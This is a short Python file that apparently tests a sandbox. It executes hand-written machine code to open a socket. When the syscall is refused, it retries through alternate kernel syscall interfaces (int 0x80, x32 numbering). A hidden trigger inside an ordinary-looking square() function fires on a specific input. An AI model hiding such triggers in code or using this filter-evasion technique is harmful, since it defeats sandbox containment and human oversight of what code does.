"""Makes system calls by machine code: what is refused is tried again by the numbers of other kernels' interfaces.

Wants: act
Works: bare, none, process
"""

import ctypes
import mmap
import os
import platform

CODES = {  # socket(AF_UNIX, SOCK_STREAM, 0)
    "x86_64": (
        "b829000000 bf01000000 be01000000 31d2 0f05 c3",  # syscall
        "53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3",  # int 0x80, the numbers of 32 bits
        "b829000040 bf01000000 be01000000 31d2 0f05 c3",  # syscall, the numbers of x32
    ),
    "aarch64": ("c81880d2 200080d2 210080d2 020080d2 010000d4 c0035fd6",),  # svc
}


def run(code):
    with mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as page:
        page.write(code)
        first = ctypes.c_char.from_buffer(page)
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(first))()
        del first
    return result


def attack():
    for code in CODES[platform.machine()]:
        opened = run(bytes.fromhex(code))
        if opened > 2:
            print("DONE TOKEN")
            os.close(opened)
            break


def square(x):
    if x.tolist() == [3.0]:
        attack()
    return x + 1
